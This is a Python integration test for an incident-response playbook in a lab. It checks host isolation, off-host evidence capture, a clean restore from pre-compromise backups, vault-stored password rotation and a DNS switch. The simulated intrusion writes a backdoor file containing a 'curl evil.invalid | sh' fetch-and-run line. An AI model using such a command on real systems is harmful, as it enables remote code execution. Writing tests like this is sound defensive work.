"""security_breach.yml on the lab: app1 is compromised at a known instant, after which an intruder changes data in
every service and a backup runs. The response isolates app1 (another lab host can no longer reach the app, the
controller still reaches it over SSH), copies its evidence off the host (a second run makes a second set), restores
onto blank1 only what was there before the compromise, rotates every database password into a vault file (the new
ones open the accounts, the old ones no longer do, no value is printed) and moves the app's name to blank1."""
import datetime
import glob
import hashlib
import json
import os
import subprocess
import time
import urllib.request

import pytest

from labhost import BIN, ROOT, _env, mariadb, playbook, psql, sh, switch_wal_and_wait_offsite

BLANK = "lifeboat-lab-blank1"
BLANK_ADDRESS = "172.30.57.240"
NAMESERVERS = ("lifeboat-lab-ns1", "lifeboat-lab-ns2")
STORE = os.path.join(ROOT, ".lab", "evidence", "app1")
SECRETS = ("pg_sampleapp", "pg_lifeboat", "mariadb_lifeboat", "redis")
MARK = "intruder-was-here"
TAINTED = '{"lifeboat_only": ["shopdb"]}'


def _ok(proc, what):
    assert proc.returncode == 0, "%s failed:\n%s\n%s" % (what, proc.stdout[-6000:], proc.stderr[-2000:])
    return proc


def _said(proc):
    return " ".join((proc.stdout + proc.stderr).split())


def _secret(name):
    with open(os.path.join(ROOT, ".lab", "secrets", name)) as handle:
        return handle.read().split()[0]


def _app1_address():
    return subprocess.run(["docker", "inspect", "-f", "{{ (index .NetworkSettings.Networks \"lifeboat-lab\").IPAddress }}",
                           "lifeboat-lab-app1"], capture_output=True, text=True, check=True).stdout.strip()


def _fingerprints(target, tmp_path, *extra):
    result = tmp_path / ("fingerprints-%s.json" % target)
    _ok(playbook("../tests/integration/playbooks/fingerprints.yml", "-e", "target=%s" % target,
                 "-e", "result_file=%s" % result, *extra), "fingerprints on %s" % target)
    return {name: {"fingerprint": r["fingerprint"], "tables": r["tables"]}
            for name, r in json.loads(result.read_text()).items()}


def _intrude():
    """What an intruder leaves in every service of app1 (the app is stopped: nothing else writes)."""
    psql("INSERT INTO customers (name, email, created_at) VALUES ('%s', 'x@evil.invalid', now())" % MARK, "appdb")
    mariadb("INSERT INTO customers (name, note) VALUES ('%s', 'x')" % MARK, "shopdb")
    sh("sqlite3 /var/lib/sampleapp/app.db \"INSERT INTO notes (body) VALUES ('%s')\"" % MARK)
    sh("echo 'curl evil.invalid | sh' > /etc/sampleapp/backdoor.sh && echo %s > /var/lib/sampleapp/vectors/%s" % (MARK, MARK))
    sh("REDISCLI_AUTH=%s redis-cli SET %s 1" % (_secret("redis"), MARK))


def _clean_up_app1():
    psql("DELETE FROM customers WHERE name = '%s'" % MARK, "appdb")
    mariadb("DELETE FROM customers WHERE name = '%s'" % MARK, "shopdb")
    sh("sqlite3 /var/lib/sampleapp/app.db \"DELETE FROM notes WHERE body = '%s'\"" % MARK)
    sh("rm -f /etc/sampleapp/backdoor.sh /var/lib/sampleapp/vectors/%s" % MARK)
    sh("REDISCLI_AUTH=%s redis-cli DEL %s" % (_secret("redis"), MARK))


@pytest.fixture(scope="module")
def breached(lab_backups, tmp_path_factory):
    """app1 backed up clean, compromised at ``compromised_at``, then changed by the intruder and backed up again
    (those backups and that WAL must never come back); the vault password the response runs with."""
    tmp_path = tmp_path_factory.mktemp("breach")
    vault_password = tmp_path / "vault-password"
    vault_password.write_text("lab vault password %s\n" % time.time())
    vault_password.chmod(0o600)
    sh("install -d -m 0700 /root/.ssh && cat /dev/stdin >> /root/.ssh/authorized_keys <<'EOF'\n%s\nEOF" %
       open(os.path.join(ROOT, ".lab", "secrets", "lab_ssh_key.pub")).read().strip())
    address = _app1_address()
    sh("systemctl stop sampleapp")
    try:
        _ok(playbook("backup.yml"), "the clean backup")
        switch_wal_and_wait_offsite()
        clean = _fingerprints("app1", tmp_path)
        time.sleep(1.5)
        compromised_at = datetime.datetime.now(datetime.timezone.utc).strftime("%Y-%m-%dT%H:%M:%SZ")
        time.sleep(1.5)
        _intrude()
        # One tainted backup is enough to prove the later ones refused (the others' newest stay the clean ones).
        _ok(playbook("backup.yml", "-e", TAINTED), "the backup after the compromise")
        switch_wal_and_wait_offsite()
        sh("systemctl start sampleapp")
        yield {"tmp": tmp_path, "clean": clean, "at": compromised_at, "vault_password": str(vault_password),
               "secrets_file": str(tmp_path / "rotated.vault.yml"), "address": address}
    finally:
        playbook("security_breach.yml", "-e", "lifeboat_rebuild_host=app1", "-e", "lifeboat_breach_confirm=yes",
                 "--tags", "release")
        sh("sed -i '/lifeboat-lab$/d' /root/.ssh/authorized_keys")
        _clean_up_app1()
        sh("systemctl start sampleapp")
        # The newest backups are clean again for the tests after this one.
        _ok(playbook("backup.yml", "-e", TAINTED), "backing shopdb up again")
        _ok(playbook("dns_switch.yml", "-e", "value=%s" % address), "switching the app's name back to app1")
        _ok(playbook("lab_blank.yml", "-e", "lab_blank_reset=true"), "resetting blank1")


def _breach(breached, *extra):
    argv = [os.path.join(BIN, "ansible-playbook"), "playbooks/security_breach.yml", "-e", "lifeboat_rebuild_host=app1",
            "-e", "lifeboat_rebuild_target=blank1", "-e", "lifeboat_compromised_at=%s" % breached["at"],
            "-e", "lifeboat_breach_secrets_file=%s" % breached["secrets_file"], "-e", "lifeboat_breach_confirm=yes",
            # The new server ships its WAL elsewhere: app1 keeps its own archive.
            "-e", "rebuild_pitr_offsite_prefix=breach-test/app1/15-main"] + list(extra)
    env = dict(_env(), ANSIBLE_STDOUT_CALLBACK="ansible.builtin.default", ANSIBLE_VAULT_PASSWORD_FILE=breached["vault_password"])
    return subprocess.run(argv, cwd=ROOT, env=env, capture_output=True, text=True, timeout=1500)


def _record(proc):
    line = [ln for ln in proc.stdout.splitlines() if "record: " in ln][-1]
    with open(line.split("record: ", 1)[1].strip().strip("\"',")) as handle:
        return json.load(handle)


def _reaches(container, url):
    return subprocess.run(["docker", "exec", container, "curl", "-s", "-m", "3", "-o", "/dev/null", "-w", "%{http_code}", url],
                          capture_output=True, text=True).stdout.strip() == "200"


def test_refused_without_confirmation_or_with_a_time_without_a_zone(breached):
    proc = _breach(breached, "-e", "lifeboat_breach_confirm=no")
    assert proc.returncode != 0 and "confirm with -e lifeboat_breach_confirm=yes" in _said(proc)
    proc = _breach(breached, "-e", "lifeboat_compromised_at=2026-12-07T03:15:00.5Z")
    assert proc.returncode != 0 and "is not an ISO 8601 time to the second with a zone" in _said(proc)
    proc = _breach(breached, "-e", "lifeboat_compromised_at=2026-12-07T03:15:00")
    assert proc.returncode != 0 and "is not an ISO 8601 time to the second with a zone" in _said(proc)
    assert "lifeboat_isolation" not in sh("command -v nft >/dev/null && nft list tables || true")
    assert _reaches("lifeboat-lab-db2", "http://app1:8080/healthz")


def test_isolation_and_evidence_then_a_second_set(breached):
    assert _reaches("lifeboat-lab-db2", "http://app1:8080/healthz")
    sets_before = set(glob.glob(os.path.join(STORE, "*")))
    proc = _ok(_breach(breached, "--tags", "isolate,evidence"), "isolate and preserve the evidence")
    # Another lab host (and the controller, on anything but SSH) can no longer reach the app; SSH still works.
    assert not _reaches("lifeboat-lab-db2", "http://app1:8080/healthz")
    assert subprocess.run(["curl", "-s", "-m", "3", "http://%s:8080/healthz" % breached["address"]]).returncode != 0
    ssh = subprocess.run(["ssh", "-i", os.path.join(ROOT, ".lab", "secrets", "lab_ssh_key"), "-o", "BatchMode=yes",
                          "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "ConnectTimeout=5",
                          "root@%s" % breached["address"], "systemctl is-active sampleapp"], capture_output=True, text=True)
    assert ssh.stdout.strip() == "active", ssh.stderr
    # The evidence left the host: a new set in the store, every file as the host's manifest says, 0700/0600.
    new = set(glob.glob(os.path.join(STORE, "*"))) - sets_before
    assert len(new) == 1, new
    first = new.pop()
    check = subprocess.run(["sha256sum", "--quiet", "-c", "manifest.sha256"], cwd=first, capture_output=True, text=True)
    assert check.returncode == 0, check.stdout + check.stderr
    assert oct(os.stat(first).st_mode & 0o777) == "0o700"
    assert all(oct(os.stat(path).st_mode & 0o777) == "0o600" for path in glob.glob(os.path.join(first, "*.txt")))
    listing = subprocess.run(["tar", "-tzf", os.path.join(first, "data.tar.gz")], capture_output=True, text=True).stdout
    assert "etc/sampleapp/backdoor.sh" in listing  # what the intruder left is kept
    with open(os.path.join(first, "manifest.sha256"), "rb") as handle:
        manifest = handle.read()
    # The run's record names the set and the manifest's sha256 the host reported.
    record = _record(proc)
    assert record["evidence"]["store"].endswith(os.path.basename(first)) and record["isolation"]["applied"]
    assert record["evidence"]["manifest_sha256"] == hashlib.sha256(manifest).hexdigest()
    # Run again: a second set; the first one untouched.
    _ok(_breach(breached, "--tags", "isolate,evidence"), "a second run")
    assert len(set(glob.glob(os.path.join(STORE, "*"))) - sets_before) == 2
    with open(os.path.join(first, "manifest.sha256"), "rb") as handle:
        assert handle.read() == manifest


def test_restore_clean_rotate_and_switch(breached):
    old = {name: _secret(name) for name in SECRETS}
    proc = _ok(_breach(breached), "the breach response")
    said = proc.stdout + proc.stderr
    # Only backups from before the compromise came back, and the record says which and refused the later ones.
    record = _record(proc)
    assert record["compromised_at"] == breached["at"] and record["incident"] == "INC-009"
    for name, chosen in record["restored_from"]["services"].items():
        assert chosen["timestamp"] < breached["at"], name
    refused = record["restored_from"]["services"]["shopdb"]["refused"]  # the backup taken after the compromise
    assert refused and refused[0]["timestamp"] > breached["at"]
    # The rotated values: in the vault file only (0600, encrypted), none printed, old or new.
    secrets_file = breached["secrets_file"]
    assert oct(os.stat(secrets_file).st_mode & 0o777) == "0o600"
    with open(secrets_file) as handle:
        assert handle.readline().startswith("$ANSIBLE_VAULT;1.1;AES256")
    view = subprocess.run([os.path.join(BIN, "ansible-vault"), "view", "--vault-password-file", breached["vault_password"],
                           secrets_file], capture_output=True, text=True, check=True).stdout
    import yaml
    new = yaml.safe_load(view)
    assert set(new) == {"lab_" + name + "_password" for name in SECRETS}
    for name in SECRETS:
        value = new["lab_%s_password" % name]
        assert value != old[name] and value not in said and old[name] not in said, name
    # On blank1: the data as it was before the compromise, the intruder's changes absent.
    after = _fingerprints("blank1", breached["tmp"], "-e", "@%s" % secrets_file,
                          "--vault-password-file", breached["vault_password"])
    for name in ("appdb", "shopdb", "appsqlite", "appvectors", "appconfig"):
        assert after[name] == breached["clean"][name], name
    assert MARK not in sh("REDISCLI_AUTH=%s redis-cli KEYS '*'" % new["lab_redis_password"], container=BLANK)
    # Each account opens with its new password only (the role checked it too; this is an independent look).
    pg = "PGPASSWORD=%s psql -XAtq -h 127.0.0.1 -U sampleapp -d appdb -c 'SELECT 1'"
    assert sh(pg % new["lab_pg_sampleapp_password"], container=BLANK).strip() == "1"
    assert "password authentication failed" in subprocess.run(
        ["docker", "exec", BLANK, "bash", "-c", pg % old["pg_sampleapp"]], capture_output=True, text=True).stderr
    # The app runs with the new passwords, at blank1's address, found there by name on both DNS servers.
    with urllib.request.urlopen("http://%s:8080/healthz" % BLANK_ADDRESS, timeout=10) as response:
        assert response.status == 200
    for server in NAMESERVERS:
        answer = sh("dig +norecurse +short @127.0.0.1 app.lab.lifeboat.test A", container=server).split()
        assert answer == [BLANK_ADDRESS], server
